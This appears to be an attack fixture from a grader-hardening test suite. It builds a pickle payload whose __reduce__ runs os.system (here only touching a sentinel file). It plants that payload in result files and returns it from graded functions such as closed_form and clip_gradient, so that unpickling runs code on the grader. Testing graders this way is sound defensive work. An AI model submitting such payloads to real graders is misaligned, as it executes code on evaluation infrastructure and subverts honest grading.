"""Returns pickles and object arrays whose unpickling would run code on the grader, and
leaves .pkl / .npy files where results go (a pickle payload)."""
# effdl-attack: build=cell tag=answer expect_lost=a2.closed_form,a2.clip_gradient,a2.train_clip,a2.train_tern_clip feedback_contains="not numbers" quick=1

import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch @SENTINEL@/unpickled",))


BLOB = pickle.dumps(Payload())
for path in ("payload.pkl", "/out/calls/0.pkl", "/out/calls/1.npz", "/out/result.pkl"):
    try:
        with open(path, "wb") as fh:
            fh.write(BLOB)
    except OSError:
        pass
try:
    np.save("/out/calls/2.npy", np.array([Payload()], dtype=object), allow_pickle=True)
except OSError:
    pass


def closed_form(X, y):
    return BLOB


def clip_gradient(g, T):
    return np.array([Payload() for _ in np.ravel(g)], dtype=object)
